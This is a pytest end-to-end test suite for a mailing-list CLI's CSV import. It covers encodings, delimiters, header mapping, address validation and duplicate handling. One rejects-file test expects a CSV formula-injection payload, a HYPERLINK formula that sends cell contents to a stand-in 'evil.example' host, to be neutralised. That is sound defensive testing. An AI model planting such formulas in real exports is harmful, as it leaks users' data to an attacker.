"""`mailer import` end to end, through the CLI, on SQLite and on PostgreSQL.

Every test asserts exact outcomes: the contract's JSON report, the rows stored (through
`mailer subscribers list --json`, and SQL for the columns the listing does not show).
The fixtures in tests/fixtures are real-world exports; tests/fixtures/generate.py made them.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, text

from mailer.core.people import Candidate, Notice, Rejection
from mailer.core.states import SubscriberStatus
from mailer.imports import run as importing
from mailer.imports.columns import map_columns
from mailer.imports.csvsource import Record
from mailer.imports.records import Outcome, parse_record
from tests.conftest import FIXTURES, Result, write_csv

Cli = Callable[..., Result]
REPORT_KEYS = {"file", "rows", "imported", "updated", "unchanged", "duplicates", "rejected"}
MAILCHIMP_IGNORED = [
    "Address",
    "Phone Number",
    "MEMBER_RATING",
    "OPTIN_TIME",
    "OPTIN_IP",
    "CONFIRM_TIME",
    "CONFIRM_IP",
    "LATITUDE",
    "LONGITUDE",
    "GMTOFF",
    "DSTOFF",
    "TIMEZONE",
    "CC",
    "REGION",
]
MAILCHIMP_IGNORED_TAIL = ["LAST_CHANGED", "LEID", "EUID", "NOTES", "TAGS"]


# --- helpers ------------------------------------------------------------------------------


def run_import(cli: Cli, *args: str) -> dict[str, Any]:
    """`mailer import ARGS --json`: exit 0, the contract's shape, and rows that add up."""
    result = cli("import", *args, "--json")
    assert result.code == 0, result.stderr
    report: dict[str, Any] = json.loads(result.stdout)
    assert REPORT_KEYS | {"warnings"} <= set(report)
    assert all(set(r) == {"line", "reason"} for r in report["rejected"])
    assert all(set(w) == {"line", "message"} for w in report["warnings"])
    assert report["rows"] == (
        report["imported"]
        + report["updated"]
        + report["unchanged"]
        + report["duplicates"]
        + len(report["rejected"])
    )
    return report


def counts(report: dict[str, Any]) -> tuple[int, int, int, int, int, int]:
    """(rows, imported, updated, unchanged, duplicates, rejected)."""
    return (
        report["rows"],
        report["imported"],
        report["updated"],
        report["unchanged"],
        report["duplicates"],
        len(report["rejected"]),
    )


def rejected(report: dict[str, Any]) -> list[tuple[int, str]]:
    return [(r["line"], r["reason"]) for r in report["rejected"]]


def warnings(report: dict[str, Any]) -> list[tuple[int, str]]:
    return [(w["line"], w["message"]) for w in report["warnings"]]


def listing(cli: Cli, *args: str) -> list[dict[str, Any]]:
    result = cli("subscribers", "list", "--json", *args)
    if result.code == 78 and result.stderr.startswith("Error: no database at"):
        return []  # a failed first import made no SQLite file: `list` does not create one
    assert result.code == 0, result.stderr
    rows: list[dict[str, Any]] = json.loads(result.stdout)
    return rows


def people(cli: Cli) -> dict[str, tuple[str | None, str | None, str]]:
    """{display email: (first name, last name, status)}."""
    return {p["email"]: (p["first_name"], p["last_name"], p["status"]) for p in listing(cli)}


def statuses(cli: Cli) -> dict[str, str]:
    return {p["email"]: p["status"] for p in listing(cli)}


def stored(database_url: str) -> dict[str, tuple[str, str, bool]]:
    """{display email: (dedupe key, address for the wire, smtputf8)}, straight from SQL."""
    engine = create_engine(database_url)
    try:
        with engine.connect() as connection:
            rows = connection.execute(
                text("SELECT email, email_key, address, smtputf8 FROM subscribers ORDER BY id")
            )
            return {row.email: (row.email_key, row.address, bool(row.smtputf8)) for row in rows}
    finally:
        engine.dispose()


def subscriber_count(cli: Cli) -> int:
    return len(listing(cli))


def fails_cleanly(result: Result, message: str) -> None:
    """Exit 1, and `Error: ...` (plus an optional `Hint: ...`) on stderr: no traceback."""
    assert result.code == 1
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert lines[0].startswith("Error: ")
    assert message in lines[0]
    assert all(line.startswith("Hint: ") for line in lines[1:])
    assert len(lines) <= 2


# --- the real-world fixtures --------------------------------------------------------------


def test_excel_cp1252_semicolon_imports_without_options(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "excel_fr.csv"))

    assert report["file"] == "excel_fr.csv"
    assert report["encoding"] == "windows-1252"
    assert report["delimiter"] == ";"
    # Line 10 is Excel's empty row `;;;;;`: not a row, not a rejection.
    assert counts(report) == (8, 6, 0, 0, 1, 1)
    assert rejected(report) == [
        (7, "invalid address: The part after the @-sign is not valid. It should have a period.")
    ]
    assert warnings(report) == [(8, "duplicate of line 3; skipped")]
    assert report["columns"] == {
        "civility": "Civilité",
        "first_name": "Prénom",
        "last_name": "Nom",
        "email": "Adresse e-mail",
    }
    assert report["ignored_columns"] == ["Téléphone", "Ville"]
    assert listing(cli) == [
        {
            "email": email,
            "first_name": first,
            "last_name": last,
            "civility": civility,
            "status": "active",
            "attributes": {},
        }
        for civility, first, last, email in [
            ("Mme", "Hélène", "Dupont", "helene.dupont@exemple.fr"),
            ("M.", "François", "Lefèvre", "francois.lefevre@exemple.fr"),
            ("Mme", "Zoë", "Moreau", "zoe.moreau@exemple.fr"),
            ("M.", "Œdipe", "Labdacide", "oedipe@exemple.fr"),
            ("M.", "Jürgen", "Müller", "juergen.mueller@exemple.de"),
            ("M.", "Jean-Noël", "Cœur", "jean-noel.coeur@exemple.fr"),
        ]
    ]


FIXTURE_FILES = sorted(p.name for p in FIXTURES.iterdir() if p.suffix in {".csv", ".txt"})


@pytest.mark.parametrize("name", FIXTURE_FILES)
def test_importing_the_same_file_twice_changes_nothing(cli: Cli, name: str) -> None:
    first = run_import(cli, str(FIXTURES / name))
    before = listing(cli)

    second = run_import(cli, str(FIXTURES / name))

    assert first["imported"] > 0
    assert counts(second) == (
        first["rows"],
        0,
        0,
        first["imported"],
        first["duplicates"],
        len(first["rejected"]),
    )
    assert second["rejected"] == first["rejected"]
    assert listing(cli) == before


def test_excel_unicode_text_utf16_tab_separated_imports_without_options(
    cli: Cli, database_url: str
) -> None:
    report = run_import(cli, str(FIXTURES / "excel_unicode.txt"))

    assert (report["encoding"], report["delimiter"]) == ("utf-16", "\t")
    assert counts(report) == (3, 3, 0, 0, 0, 0)
    assert report["ignored_columns"] == ["Ville"]
    assert people(cli) == {
        "helene.dupont@exemple.fr": ("Hélène", "Dupont", "active"),
        "lukasz@exemple.pl": ("Łukasz", "Żółć", "active"),
        "misaki@例え.jp": ("美咲", "佐藤", "active"),
    }
    assert stored(database_url)["misaki@例え.jp"] == (
        "misaki@xn--r8jz45g.jp",
        "misaki@xn--r8jz45g.jp",
        False,
    )


def test_mailchimp_subscribed_export_imports_without_options(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "mailchimp_subscribed.csv"))

    assert (report["encoding"], report["delimiter"]) == ("utf-8-sig", ",")
    assert counts(report) == (4, 4, 0, 0, 0, 0)
    assert report["rejected"] == []
    assert report["warnings"] == []
    assert report["columns"] == {
        "email": "Email Address",
        "first_name": "First Name",
        "last_name": "Last Name",
    }
    assert report["ignored_columns"] == MAILCHIMP_IGNORED + MAILCHIMP_IGNORED_TAIL
    # Zoë's NOTES span two lines and mention another address: she is still one person.
    assert listing(cli) == [
        {
            "email": email,
            "first_name": first,
            "last_name": last,
            "civility": None,
            "status": "active",
            "attributes": {},
        }
        for email, first, last in [
            ("helene.dupont@exemple.fr", "Hélène", "Dupont"),
            ("zoe.moreau@exemple.fr", "Zoë", "Moreau"),
            ("bjorn@exemple.se", "Björn", "Åström"),
            ("jose@exemple.es", "José", "García, Jr."),
        ]
    ]


def test_mailchimp_unsubscribed_export_imports_people_as_unsubscribed(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "mailchimp_unsubscribed.csv"))

    assert counts(report) == (2, 2, 0, 0, 0, 0)
    assert report["ignored_columns"] == (
        [
            *MAILCHIMP_IGNORED,
            *("UNSUB_CAMPAIGN_TITLE", "UNSUB_CAMPAIGN_ID", "UNSUB_REASON", "UNSUB_REASON_OTHER"),
            *MAILCHIMP_IGNORED_TAIL,
        ]
    )
    assert people(cli) == {
        "zoe.moreau@exemple.fr": ("Zoë", "Moreau", "unsubscribed"),
        "marc.petit@exemple.fr": ("Marc", "Petit", "unsubscribed"),
    }


def test_mailchimp_cleaned_export_imports_people_as_bounced(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "mailchimp_cleaned.csv"))

    assert counts(report) == (1, 1, 0, 0, 0, 0)
    assert report["ignored_columns"] == (
        [*MAILCHIMP_IGNORED, "CLEAN_CAMPAIGN_TITLE", "CLEAN_CAMPAIGN_ID", *MAILCHIMP_IGNORED_TAIL]
    )
    assert people(cli) == {"ancien.collegue@exemple.fr": ("Paul", "Ancien", "bounced")}


def test_mailchimp_unsubscribed_export_unsubscribes_and_reimport_never_resubscribes(
    cli: Cli,
) -> None:
    run_import(cli, str(FIXTURES / "mailchimp_subscribed.csv"))

    unsubscribed = run_import(cli, str(FIXTURES / "mailchimp_unsubscribed.csv"))
    again = run_import(cli, str(FIXTURES / "mailchimp_subscribed.csv"))

    assert counts(unsubscribed) == (2, 1, 1, 0, 0, 0)  # Marc is new, Zoë changed
    assert counts(again) == (4, 0, 0, 4, 0, 0)  # Zoë is `active` in the file: nothing changes
    assert statuses(cli) == {
        "helene.dupont@exemple.fr": "active",
        "zoe.moreau@exemple.fr": "unsubscribed",
        "bjorn@exemple.se": "active",
        "jose@exemple.es": "active",
        "marc.petit@exemple.fr": "unsubscribed",
    }


def test_listmonk_export_imports_without_options(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "listmonk.csv"))

    assert counts(report) == (4, 4, 0, 0, 0, 0)
    assert report["columns"] == {"email": "email", "name": "name", "status": "status"}
    assert report["ignored_columns"] == ["uuid", "attributes", "created_at", "updated_at"]
    # name is split; blocklisted and disabled people are not mailed.
    assert people(cli) == {
        "helene.dupont@exemple.fr": ("Hélène", "Dupont", "active"),
        "jean.dupont@exemple.fr": ("Jean", "DUPONT", "active"),
        "marc.petit@exemple.fr": ("Marc", "Petit", "unsubscribed"),
        "sophie@exemple.fr": ("Sophie", None, "unsubscribed"),
    }
    assert all(person["attributes"] == {} for person in listing(cli))


def test_listmonk_attributes_json_kept_with_attribute_option(cli: Cli) -> None:
    report = run_import(cli, str(FIXTURES / "listmonk.csv"), "--attribute", "attributes")

    assert report["ignored_columns"] == ["uuid", "created_at", "updated_at"]
    assert {p["email"]: p["attributes"] for p in listing(cli)} == {
        "helene.dupont@exemple.fr": {"city": "Paris", "plan": {"tier": "pro", "seats": 3}},
        "jean.dupont@exemple.fr": {},
        "marc.petit@exemple.fr": {"city": "Lille"},
        "sophie@exemple.fr": {},
    }
    assert counts(run_import(cli, str(FIXTURES / "listmonk.csv"), "--attribute", "attributes")) == (
        4,
        0,
        0,
        4,
        0,
        0,
    )


def test_listmonk_blocklisted_person_is_not_resubscribed_by_a_later_list(
    cli: Cli, tmp_path: Path
) -> None:
    run_import(cli, str(FIXTURES / "listmonk.csv"))
    later = write_csv(tmp_path / "later.csv", "email,status\nMarc.Petit@exemple.fr,active\n")

    report = run_import(cli, str(later))

    assert counts(report) == (1, 0, 0, 1, 0, 0)
    assert statuses(cli)["marc.petit@exemple.fr"] == "unsubscribed"


def test_messy_hand_edited_file_imports_what_it_can_and_reports_the_rest(
    cli: Cli, database_url: str
) -> None:
    report = run_import(cli, str(FIXTURES / "messy.csv"))

    assert (report["encoding"], report["delimiter"]) == ("utf-8", ",")
    assert report["columns"] == {"email": "Email", "first_name": "Prénom", "last_name": "Nom"}
    assert report["ignored_columns"] == ["Notes"]
    # 14 records: lines 3 and 17 are blank, lines 12-13 are one record.
    assert counts(report) == (14, 10, 0, 0, 1, 3)
    assert rejected(report) == [
        (7, "several addresses in one cell"),
        (14, "invalid address: An email address must have an @-sign."),
        (18, "unbalanced quote: lines 18-19 were read as one record"),
    ]
    assert warnings(report) == [
        (6, "display name around dave@example.com ignored"),
        (8, "address not ASCII before the @: only a relay offering SMTPUTF8 can deliver it"),
        (10, "control characters removed from first_name"),
        (11, "control characters removed from first_name"),
        (12, "control characters removed from first_name"),
        (15, "6 cells but the header has 4; extra ignored"),
        (16, "duplicate of line 2; skipped"),
    ]
    assert people(cli) == {
        "alice@example.com": ("Alice", "Martin", "active"),
        "bob@example.com": ("Bob", "Durand", "active"),
        "carol@example.com": ("Carol", "Petit", "active"),
        "dave@example.com": ("Dave", "Leroy", "active"),
        "josé@exemple.fr": ("José", "García", "active"),
        "user@bücher.de": ("Hans", "Bücher", "active"),
        "eve@example.com": ("evE", "Lambert", "active"),
        "grace@example.com": ("Grace Brewster", "Hopper", "active"),
        "ken@example.com": ("Ken Lane", "Thompson", "active"),
        "heidi@example.com": ("Heidi", "Blanc", "active"),
    }
    wire = stored(database_url)
    assert wire["josé@exemple.fr"] == ("josé@exemple.fr", "josé@exemple.fr", True)
    assert wire["user@bücher.de"] == ("user@xn--bcher-kva.de", "user@xn--bcher-kva.de", False)
    assert wire["alice@example.com"] == ("alice@example.com", "alice@example.com", False)


def test_messy_file_rejects_written_with_line_reason_and_neutralised_formulas(
    cli: Cli, tmp_path: Path
) -> None:
    rejects = tmp_path / "rejets.csv"

    run_import(cli, str(FIXTURES / "messy.csv"), "--rejects", str(rejects))

    raw = rejects.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel shows the accents
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["line", "reason", "Email", "Prénom", "Nom", "Notes"]
    assert [row[:3] for row in rows[1:]] == [
        ["7", "several addresses in one cell", "erin@example.com, frank@example.com"],
        [
            "14",
            "invalid address: An email address must have an @-sign.",
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        ],
        [
            "18",
            "unbalanced quote: lines 18-19 were read as one record",
            "ivan@example.com",
        ],
    ]
    assert rows[3][3] == "Ivan,Petrov,\njudy@example.com,Judy,Noir,\n"


# --- encodings ----------------------------------------------------------------------------


def test_utf8_with_bom_reads_the_first_header_cell(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "bom.csv", "email;prénom\r\nanne@exemple.fr;Anaïs\r\n", "utf-8-sig"
    )

    report = run_import(cli, str(source))

    assert report["encoding"] == "utf-8-sig"
    assert report["columns"] == {"email": "email", "first_name": "prénom"}
    assert people(cli) == {"anne@exemple.fr": ("Anaïs", None, "active")}


def test_utf8_without_bom_is_detected(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "u.csv", "courriel,prénom,nom\nzoe@exemple.fr,Zoë,Œuf\n")

    report = run_import(cli, str(source))

    assert report["encoding"] == "utf-8"
    assert people(cli) == {"zoe@exemple.fr": ("Zoë", "Œuf", "active")}


def test_file_mixing_utf8_and_cp1252_lines_reads_each_line_right_with_a_warning(
    cli: Cli, tmp_path: Path
) -> None:
    source = tmp_path / "mixed.csv"
    source.write_bytes(
        "email,prénom\n".encode()
        + "a@exemple.fr,Hélène\n".encode()
        + "b@exemple.fr,Cécile €\n".encode("cp1252")
    )

    report = run_import(cli, str(source))

    assert report["encoding"] == "mixed utf-8/windows-1252"
    assert warnings(report) == [
        (3, "the file mixes UTF-8 and Windows-1252 lines; each line was read in its own")
    ]
    assert people(cli) == {
        "a@exemple.fr": ("Hélène", None, "active"),
        "b@exemple.fr": ("Cécile €", None, "active"),
    }


def test_encoding_option_forces_an_encoding_detection_would_miss(cli: Cli, tmp_path: Path) -> None:
    # A DOS (cp850) export: read as Windows-1252 it would give `H‚lŠne`.
    source = write_csv(tmp_path / "dos.csv", "email;prénom\r\nh@exemple.fr;Hélène\r\n", "cp850")

    report = run_import(cli, str(source), "--encoding", "cp850")

    assert report["encoding"] == "cp850"
    assert people(cli) == {"h@exemple.fr": ("Hélène", None, "active")}


def test_address_with_undecodable_bytes_is_rejected_not_stored(cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_bytes(b"email,name\nh\xe9l\xe8ne@exemple.fr,H\nok@exemple.fr,O\n")

    report = run_import(cli, str(source), "--encoding", "utf-8")

    assert rejected(report) == [
        (2, "invalid address: it holds \ufffd where bytes could not be decoded (try --encoding)")
    ]
    assert statuses(cli) == {"ok@exemple.fr": "active"}


def test_encoding_option_reports_bytes_invalid_in_the_forced_encoding(
    cli: Cli, tmp_path: Path
) -> None:
    source = tmp_path / "bad.csv"
    source.write_bytes(b"email,name\na@exemple.fr,Ann\xe9e\nb@exemple.fr,Bob\n")

    report = run_import(cli, str(source), "--encoding", "utf-8")

    assert warnings(report) == [(2, "bytes not valid in utf-8; replaced by �")]
    assert people(cli) == {
        "a@exemple.fr": ("Ann�e", None, "active"),
        "b@exemple.fr": ("Bob", None, "active"),
    }


def test_corrupt_utf16_file_warns_naming_the_detected_encoding(cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "u16.txt"
    source.write_bytes(
        b"\xff\xfe"
        + "email\tnom\r\na@x.fr\tRoux\r\n".encode("utf-16-le")
        + b"\x00\xd8"  # a lone surrogate: the start of line 3 is lost
        + "b@x.fr\tNoir\r\n".encode("utf-16-le")
    )

    report = run_import(cli, str(source))

    assert rejected(report) == [
        (3, "invalid address: it holds \ufffd where bytes could not be decoded (try --encoding)")
    ]
    assert warnings(report) == [(3, "bytes not valid in utf-16; replaced by �")]


@pytest.mark.parametrize(
    ("encoding", "message"),
    [
        ("klingon", "unknown encoding 'klingon'"),
        ("rot13", "'rot13' is not an encoding a CSV file can be written in"),
        ("base64", "'base64' is not an encoding a CSV file can be written in"),
        ("idna", "'idna' is not an encoding a CSV file can be written in"),
    ],
)
def test_unusable_encoding_option_is_an_error(
    cli: Cli, tmp_path: Path, encoding: str, message: str
) -> None:
    source = write_csv(tmp_path / "a.csv", "email\na@exemple.fr\n")

    fails_cleanly(cli("import", str(source), "--encoding", encoding), message)
    assert subscriber_count(cli) == 0


# --- delimiters and quoting ---------------------------------------------------------------


@pytest.mark.parametrize(("delimiter", "shown"), [(",", ","), (";", ";"), ("\t", "\t"), ("|", "|")])
def test_delimiter_is_detected(cli: Cli, tmp_path: Path, delimiter: str, shown: str) -> None:
    rows = [
        ["email", "nom", "ville"],
        ["a@exemple.fr", "Dupont", "Aix"],
        ["b@exemple.fr", "Martin", "Pau"],
    ]
    content = "\n".join(delimiter.join(row) for row in rows) + "\n"
    source = write_csv(tmp_path / "d.csv", content)

    report = run_import(cli, str(source))

    assert report["delimiter"] == shown
    assert counts(report) == (2, 2, 0, 0, 0, 0)
    assert people(cli) == {
        "a@exemple.fr": (None, "Dupont", "active"),
        "b@exemple.fr": (None, "Martin", "active"),
    }


@pytest.mark.parametrize(("option", "character"), [(":", ":"), ("tab", "\t"), ("\\t", "\t")])
def test_delimiter_option_forces_the_delimiter(
    cli: Cli, tmp_path: Path, option: str, character: str
) -> None:
    source = write_csv(
        tmp_path / "d.txt", f"email{character}prénom\na@exemple.fr{character}Anne, dite Nan\n"
    )

    report = run_import(cli, str(source), "--delimiter", option)

    assert report["delimiter"] == character
    assert people(cli) == {"a@exemple.fr": ("Anne, dite Nan", None, "active")}


def test_invalid_delimiter_option_is_an_error(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "a.csv", "email\na@exemple.fr\n")

    fails_cleanly(cli("import", str(source), "--delimiter", ";;"), "invalid delimiter ';;'")


def test_quoted_fields_hold_delimiters_quotes_and_newlines_and_lines_stay_physical(
    cli: Cli, tmp_path: Path
) -> None:
    source = write_csv(
        tmp_path / "q.csv",
        "email;prénom;nom\r\n"  # 1
        'a@exemple.fr;"Anne; dite ""Nan""";"Du\r\nPont"\r\n'  # 2-3
        "pas-une-adresse;Bob;Blanc\r\n"  # 4
        'c@exemple.fr;"Cé\r\n\r\ncile";Roux\r\n'  # 5-7
        "d@exemple\r\n",  # 8
    )

    report = run_import(cli, str(source))

    assert counts(report) == (4, 2, 0, 0, 0, 2)
    assert [line for line, _ in rejected(report)] == [4, 8]
    assert warnings(report) == [
        (2, "control characters removed from last_name"),
        (5, "control characters removed from first_name"),
    ]
    assert people(cli) == {
        "a@exemple.fr": ('Anne; dite "Nan"', "Du Pont", "active"),
        "c@exemple.fr": ("Cé cile", "Roux", "active"),
    }


def test_old_mac_file_with_cr_line_endings_imports(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "mac.csv", "email,name\ra@exemple.fr,Anne\r\rnope\rc@x.fr,C\r")

    report = run_import(cli, str(source))

    assert counts(report) == (3, 2, 0, 0, 0, 1)
    assert [line for line, _ in rejected(report)] == [4]
    assert statuses(cli) == {"a@exemple.fr": "active", "c@x.fr": "active"}


def test_stray_cr_in_an_unquoted_cell_rejects_that_line_only(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "cr.csv", "email,name\na@exemple.fr,An\rne\nb@exemple.fr,Bob\n")

    report = run_import(cli, str(source))

    assert rejected(report) == [
        (2, "unreadable CSV record: a line break (CR) inside a cell that is not quoted")
    ]
    assert statuses(cli) == {"b@exemple.fr": "active"}


# --- headers, --map, --attribute ----------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "E-mail;Prénom;Nom;Civilité",
        "COURRIEL;PRENOM;NOM DE FAMILLE;CIVILITE",
        "Adresse e-mail;prénom ;Nom;civ.",
        "Email Address;First Name;Last Name;Title",
        "e-mail address;first_name;last_name;Salutation",
        "Adresse électronique;Prénom(s);Nom d'usage;Titre",
    ],
)
def test_header_aliases_in_french_and_english_are_recognised(
    cli: Cli, tmp_path: Path, header: str
) -> None:
    source = write_csv(tmp_path / "h.csv", f"{header}\nh@exemple.fr;Hélène;Dupont;Mme\n")

    report = run_import(cli, str(source))

    assert sorted(report["columns"]) == ["civility", "email", "first_name", "last_name"]
    assert report["ignored_columns"] == []
    assert listing(cli)[0] == {
        "email": "h@exemple.fr",
        "first_name": "Hélène",
        "last_name": "Dupont",
        "civility": "Mme",
        "status": "active",
        "attributes": {},
    }


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("email,name", ("Hélène", "Dupont")),
        ("email,Nom complet", ("Hélène", "Dupont")),
        ("email,Full Name", ("Hélène", "Dupont")),
    ],
)
def test_full_name_column_is_split(
    cli: Cli, tmp_path: Path, header: str, expected: tuple[str, str]
) -> None:
    source = write_csv(tmp_path / "n.csv", f"{header}\nh@exemple.fr,Hélène Dupont\n")

    run_import(cli, str(source))

    assert people(cli) == {"h@exemple.fr": (*expected, "active")}


def test_map_option_names_columns_the_guess_cannot(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "m.csv",
        "Contact pro;Qui;Courriel perso\nanne@travail.fr;DUPONT Anne;anne@maison.fr\n",
    )

    report = run_import(cli, str(source), "--map", "Contact pro=email", "--map", "Qui=name")

    assert report["columns"] == {"email": "Contact pro", "name": "Qui"}
    assert report["ignored_columns"] == ["Courriel perso"]
    assert people(cli) == {"anne@travail.fr": ("Anne", "DUPONT", "active")}


def test_map_option_ignore_drops_a_column_the_guess_would_use(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "m.csv", "email,statut\na@exemple.fr,Bénévole\n")

    without = cli("import", str(source), "--json", "--dry-run")
    report = run_import(cli, str(source), "--map", "statut=ignore")

    assert rejected(json.loads(without.stdout)) == [
        (
            2,
            "unknown status 'Bénévole' in column 'statut' (expected active, unsubscribed or "
            "bounced; --map 'statut=ignore' if it means something else)",
        )
    ]
    assert counts(report) == (1, 1, 0, 0, 0, 0)
    assert report["ignored_columns"] == ["statut"]


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("Adresse=email", "--map names a column that the file does not have"),
        ("nom=telephone", "invalid --map 'nom=telephone': unknown field 'telephone'"),
        ("nom", "invalid --map 'nom'"),
    ],
)
def test_bad_map_option_is_an_error_and_writes_nothing(
    cli: Cli, tmp_path: Path, option: str, message: str
) -> None:
    source = write_csv(tmp_path / "m.csv", "email,nom\na@exemple.fr,Dupont\n")

    fails_cleanly(cli("import", str(source), "--map", option), message)
    assert subscriber_count(cli) == 0


def test_other_columns_are_not_stored_and_are_listed_as_ignored(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "a.csv",
        "email;nom;Téléphone;Ville;Date de naissance\na@x.fr;Roux;0102;Pau;1970\n",
    )

    report = run_import(cli, str(source))
    human = cli("import", str(source), "--dry-run")

    assert report["ignored_columns"] == ["Téléphone", "Ville", "Date de naissance"]
    assert listing(cli)[0]["attributes"] == {}
    assert "Not stored: Téléphone, Ville, Date de naissance" in human.stdout


def test_attribute_option_keeps_the_named_columns(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "a.csv",
        "email;nom;Téléphone;Ville;Date de naissance\n"
        "a@x.fr;Roux;0102;Pau;1970\n"
        "b@x.fr;Noir;;Gap;\n",
    )

    report = run_import(cli, str(source), "--attribute", "ville", "--attribute", "Téléphone")

    assert report["ignored_columns"] == ["Date de naissance"]
    assert {p["email"]: p["attributes"] for p in listing(cli)} == {
        "a@x.fr": {"Ville": "Pau", "Téléphone": "0102"},
        "b@x.fr": {"Ville": "Gap"},  # an empty cell is no attribute
    }


def test_attribute_star_keeps_every_other_column(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "a.csv", "email;nom;Ville;Code\na@x.fr;Roux;Pau;64000\n")

    report = run_import(cli, str(source), "--attribute", "*")

    assert report["ignored_columns"] == []
    assert listing(cli)[0]["attributes"] == {"Ville": "Pau", "Code": "64000"}


def test_attribute_option_naming_a_missing_column_is_an_error(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "a.csv", "email\na@x.fr\n")

    fails_cleanly(
        cli("import", str(source), "--attribute", "Ville"),
        "--attribute names a column that the file does not have",
    )


def test_changed_attribute_or_name_updates_the_subscriber(cli: Cli, tmp_path: Path) -> None:
    run_import(cli, str(write_csv(tmp_path / "a.csv", "email,nom,ville\na@x.fr,Roux,Pau\n")))
    changed = write_csv(tmp_path / "b.csv", "email,nom,ville\nA@X.FR,Roux-Noir,Pau\n")

    report = run_import(cli, str(changed), "--attribute", "ville")

    assert counts(report) == (1, 0, 1, 0, 0, 0)
    assert listing(cli) == [
        {
            "email": "a@x.fr",  # the first spelling stays
            "first_name": None,
            "last_name": "Roux-Noir",
            "civility": None,
            "status": "active",
            "attributes": {"ville": "Pau"},
        }
    ]


# --- addresses ----------------------------------------------------------------------------


def test_addresses_are_trimmed_of_spaces_and_no_break_spaces(
    cli: Cli, tmp_path: Path, database_url: str
) -> None:
    source = write_csv(
        tmp_path / "s.csv",
        "email,name\n  a@x.fr\t,A\n\u00a0b@x.fr\u00a0,B\n\u200bc@x.fr\ufeff,C\n",
    )

    report = run_import(cli, str(source))

    assert counts(report) == (3, 3, 0, 0, 0, 0)
    assert list(stored(database_url)) == ["a@x.fr", "b@x.fr", "c@x.fr"]


def test_idn_domain_is_sent_as_a_label_and_shown_as_written(
    cli: Cli, tmp_path: Path, database_url: str
) -> None:
    source = write_csv(
        tmp_path / "idn.csv", "email\nuser@Bücher.de\nJosé@Exemple.fr\nmisaki@例え.jp\n"
    )

    run_import(cli, str(source))

    assert stored(database_url) == {
        "user@Bücher.de": ("user@xn--bcher-kva.de", "user@xn--bcher-kva.de", False),
        "José@Exemple.fr": ("josé@exemple.fr", "José@exemple.fr", True),
        "misaki@例え.jp": ("misaki@xn--r8jz45g.jp", "misaki@xn--r8jz45g.jp", False),
    }


def test_every_invalid_address_is_rejected_with_its_line_and_reason(
    cli: Cli, tmp_path: Path
) -> None:
    source = write_csv(
        tmp_path / "bad.csv",
        "email,name\n"
        ",Sans adresse\n"  # 2
        "jean.dupont,Jean\n"  # 3
        "a@b@c.fr,Deux arobases\n"  # 4
        "x@exemple,Sans point\n"  # 5
        "a@x.fr b@x.fr,Deux\n"  # 6
        "Anne <a@x.fr>; Bob <b@x.fr>,Deux\n"  # 7
        "ok@x.fr,Bon\n",  # 8
    )

    report = run_import(cli, str(source))

    assert rejected(report) == [
        (2, "missing address"),
        (3, "invalid address: An email address must have an @-sign."),
        (4, "invalid address: The part after the @-sign contains invalid characters: '@'."),
        (5, "invalid address: The part after the @-sign is not valid. It should have a period."),
        (6, "several addresses in one cell"),
        (7, "several addresses in one cell"),
    ]
    assert statuses(cli) == {"ok@x.fr": "active"}


# --- duplicates ---------------------------------------------------------------------------


def test_duplicates_within_the_file_use_case_folded_address_and_idna_domain(
    cli: Cli, tmp_path: Path
) -> None:
    source = write_csv(
        tmp_path / "d.csv",
        "email,name\n"
        "user@bücher.de,Premier\n"  # 2
        "USER@xn--bcher-kva.de,Deuxième\n"  # 3
        "Anne@Exemple.FR,Anne\n"  # 4
        "anne@exemple.fr,Autre Anne\n"  # 5
        " mailto:ANNE@exemple.fr ,Troisième\n",  # 6
    )

    report = run_import(cli, str(source))

    assert counts(report) == (5, 2, 0, 0, 3, 0)
    assert warnings(report) == [
        (3, "duplicate of line 2; skipped"),
        (5, "duplicate of line 4; skipped"),
        (6, "duplicate of line 4; skipped"),
    ]
    assert people(cli) == {  # the first occurrence wins
        "user@bücher.de": ("Premier", None, "active"),
        "Anne@Exemple.FR": ("Anne", None, "active"),
    }


def test_duplicates_are_found_across_batches(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importing, "BATCH_SIZE", 2)
    lines = ["email,name"] + [f"p{i}@exemple.fr,P{i}" for i in range(2, 9)]
    lines += ["P2@EXEMPLE.FR,Encore", "p5@exemple.fr,Encore", "p8@Exemple.fr,Encore"]
    source = write_csv(tmp_path / "big.csv", "\n".join(lines) + "\n")

    report = run_import(cli, str(source))

    assert counts(report) == (10, 7, 0, 0, 3, 0)
    assert warnings(report) == [
        (9, "duplicate of line 2; skipped"),
        (10, "duplicate of line 5; skipped"),
        (11, "duplicate of line 8; skipped"),
    ]
    assert subscriber_count(cli) == 7
    assert {p["first_name"] for p in listing(cli)} == {f"P{i}" for i in range(2, 9)}


